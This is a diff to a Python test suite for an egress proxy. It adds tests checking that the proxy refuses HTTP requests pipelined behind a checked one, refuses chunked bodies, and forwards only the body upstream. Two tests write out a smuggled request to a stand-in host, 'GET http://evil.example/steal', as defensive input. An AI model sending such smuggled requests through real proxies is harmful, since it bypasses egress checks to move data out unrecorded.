@@ -117,6 +117,10 @@ def test_a_large_transfer_is_copied_and_counted_exactly(
     sender.start()
     assert _read_all(client) == down
     sender.join()
+    # The upload may still be on its way (in the proxy's socket buffers and pipe) when the
+    # client has sent it all: the call ends only once the server has read to its end, as a
+    # command ends after its answer. Ending it sooner cuts the copy short, by design.
+    wait_for(lambda: received)
     client.close()
     proxy.close_call(call)
     assert received == [up]
@@ -451,3 +455,92 @@ def test_the_proxy_accepts_again_after_running_out_of_descriptors(
     port = upstream(lambda conn: conn.sendall(b"accepting again"))
     with closing(_tunnel(call, port)) as client:
         assert _read_all(client) == b"accepting again"
+
+
+ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
+
+
+def _request(port: int, body: bytes = b"", host: str = NAME) -> bytes:
+    return (
+        f"POST http://{host}:{port}/up HTTP/1.1\r\nHost: {host}:{port}\r\n"
+        f"Content-Length: {len(body)}\r\n\r\n".encode()
+        + body
+    )
+
+
+def _plain(call: CallEgress, data: bytes) -> socket.socket:
+    client = socket.socket(socket.AF_UNIX)
+    client.settimeout(30)
+    client.connect(str(call.socket_path))
+    client.sendall(data)
+    return client
+
+
+@pytest.mark.parametrize(
+    "behind",
+    [
+        b"GET http://evil.example/steal HTTP/1.1\r\nHost: evil.example\r\n\r\n",
+        b"x",  # one byte more than the body is already another request's start
+    ],
+)
+def test_a_request_pipelined_behind_a_checked_one_is_refused(
+    proxy: EgressProxy, upstream: Callable[[Handler], int], behind: bytes
+) -> None:
+    # Forwarded blind behind the first, a second request would reach the allowed address
+    # unchecked and unrecorded, with a Host of its own (another site behind a shared front).
+    connected: list[bytes] = []
+    port = upstream(lambda conn: connected.append(_read_all(conn)))
+    call = proxy.open(OPERATOR)
+    with _plain(call, _request(port, b"hello") + behind) as client:
+        answer = _read_all(client)
+    proxy.close_call(call)
+    assert answer.startswith(b"HTTP/1.1 400 ") and b"one request per connection" in answer
+    assert connected == [] and call.effects() == ()
+
+
+def test_a_chunked_plain_http_body_is_refused(
+    proxy: EgressProxy, upstream: Callable[[Handler], int]
+) -> None:
+    # Its end is inside the stream: whatever follows it would go upstream unchecked.
+    port = upstream(lambda conn: None)
+    call = proxy.open(OPERATOR)
+    head = (
+        f"POST http://{NAME}:{port}/up HTTP/1.1\r\nHost: {NAME}:{port}\r\n"
+        "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"
+    )
+    with _plain(call, head.encode()) as client:
+        answer = _read_all(client)
+    proxy.close_call(call)
+    assert answer.startswith(b"HTTP/1.1 400 ") and b"Content-Length" in answer
+    assert call.effects() == ()
+
+
+def test_only_the_body_goes_upstream_not_what_the_client_sends_after_it(
+    proxy: EgressProxy, upstream: Callable[[Handler], int]
+) -> None:
+    # The body arrives after the head was checked (copied, not held), and then a second
+    # request on the same connection: the server gets the body, never the second request.
+    after: list[bytes] = []
+    body = _pattern(3 * MB, b"body")
+
+    def server(conn: socket.socket) -> None:
+        head = b""
+        while not head.endswith(b"\r\n\r\n") and (byte := conn.recv(1)):
+            head += byte
+        assert _read_exactly(conn, len(body)) == body
+        conn.sendall(ANSWER)
+        conn.shutdown(socket.SHUT_WR)
+        after.append(_read_all(conn))
+
+    port = upstream(server)
+    call = proxy.open(OPERATOR)
+    with _plain(call, _request(port, body)[: -len(body)]) as client:
+        client.sendall(body)
+        assert _read_all(client).endswith(b"\r\n\r\nok")
+        with contextlib.suppress(OSError):  # the proxy may have ended the connection
+            client.sendall(b"GET http://evil.example/steal HTTP/1.1\r\nHost: evil.example\r\n\r\n")
+    wait_for(lambda: after)
+    proxy.close_call(call)
+    assert after == [b""]
+    (effect,) = call.effects()
+    assert effect.bytes_sent > len(body) and effect.bytes_received == len(ANSWER)
